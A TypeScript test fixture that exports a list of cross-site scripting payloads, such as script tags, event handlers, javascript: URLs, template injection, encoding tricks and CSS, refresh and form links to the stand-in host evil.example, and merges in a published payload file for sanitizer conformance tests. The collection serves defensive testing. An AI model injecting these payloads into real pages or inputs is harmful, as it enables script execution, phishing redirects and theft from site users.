import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';

const repository = path.resolve(__dirname, '../../..');
const FILE = path.resolve(repository, '../shared/conformance/xss-payloads-dompurify.json');

/** Each breaks out of another place in a page. */
const OURS: readonly string[] = [
  '<script>globalThis.ran = 1</script>',
  '<ScRiPt src=//evil.example></sCrIpT >',
  '"><svg/onload=ran()>',
  "' autofocus onfocus=ran() x='",
  '</title></style></textarea><img src=x onerror=ran()>',
  '<!--><script>ran()</script-->',
  '<![CDATA[<script>ran()</script>]]>',
  '<math><mi xlink:href="javascript:ran()">x</mi></math>',
  '<a href="java&#115;cript:ran()">x</a>',
  '<iframe srcdoc="&lt;script&gt;ran()&lt;/script&gt;">',
  '[x](javascript:ran())',
  '`${ran()}` {{constructor.constructor("ran()")()}}',
  '<style>@import "//evil.example/x.css";*{background:url(//evil.example)}</style>',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<form action=//evil.example><button>Pay again</button></form>',
  '\u202E>tpircs<\u202C <\u0000script>',
  '+ADw-script+AD4-ran()+ADw-/script+AD4-',
];

function published(): string[] {
  if (!existsSync(FILE)) {
    console.warn(`SKIPPED: the published script payloads, which are not at hand (${FILE})`);
    return [];
  }
  const { payloads }: { payloads: unknown[] } = JSON.parse(readFileSync(FILE, 'utf8'));
  return payloads.filter((payload) => typeof payload === 'string');
}

/** Texts that do harm where text is taken for markup: ours, and published ones where at hand. */
export const PAYLOADS: readonly string[] = [...OURS, ...published()];
